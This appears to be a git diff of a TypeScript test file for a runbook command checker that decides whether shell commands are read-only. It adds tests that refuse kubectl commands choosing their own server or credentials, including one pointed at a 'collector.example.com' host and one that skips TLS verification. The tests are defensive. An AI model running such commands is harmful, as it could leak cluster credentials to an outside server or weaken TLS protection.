@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { effectOf, effectOfParsed, shellRefusal } from '../../src/runbook/effects.js';
+import { effectOf, effectOfParsed, identityRefusal, shellRefusal, wordsOf } from '../../src/runbook/effects.js';
 import { parseCommand } from '../../src/runbook/command.js';
 
 /** Splits like the runbook parser does; placeholders stay as written. */
@@ -27,6 +27,7 @@ describe('what a command does to the system, decided by what it runs', () => {
     'kubectl exec -n w vllm-0 -- nvidia-smi --query-gpu=index,memory.used --format=csv,noheader',
     'curl -sS --max-time 15 {{url}}/health',
     'curl -sSf -H "Authorization: Bearer $TOKEN" https://api.example.com/endpoints | jq .',
+    'curl -sS -o /dev/null -w "%{http_code}" https://x.example.com',
     'curl -I https://x.example.com',
     'curl -G -d q=1 https://x.example.com/search',
     'curl -X GET https://x.example.com',
@@ -111,5 +112,24 @@ describe('what a command does to the system, decided by what it runs', () => {
     expect(effectOf([['curl', 'https://x.example.com']]).readOnly).toBe(true);
     expect(effectOf([['curl', 'gopher://x.example.com']]).readOnly).toBe(false);
     expect(effectOf([['kubectl', 'delete', 'pod', 'x']]).readOnly).toBe(false);
+  });
+});
+
+describe('a runbook may not choose where kubectl sends the credentials', () => {
+  const refusal = (text: string) => {
+    const parsed = parseCommand(text);
+    if (!parsed.ok) throw new Error(parsed.error.message);
+    return identityRefusal(wordsOf(parsed.command));
+  };
+  it.each([
+    'kubectl --server=https://collector.example.com get pods',
+    'kubectl -s https://x get pods',
+    'kubectl get pods --token abc',
+    'kubectl --kubeconfig /tmp/k get pods',
+    'kubectl get pods --insecure-skip-tls-verify',
+  ])('%s is refused', (text) => expect(refusal(text)).toMatch(/chooses the server or the credentials/));
+  it('flags after `kubectl exec … --` belong to the program in the pod', () => {
+    expect(refusal('kubectl exec p -- psql -s x')).toBeUndefined();
+    expect(refusal('kubectl get pods -n bud-system -o wide')).toBeUndefined();
   });
 });
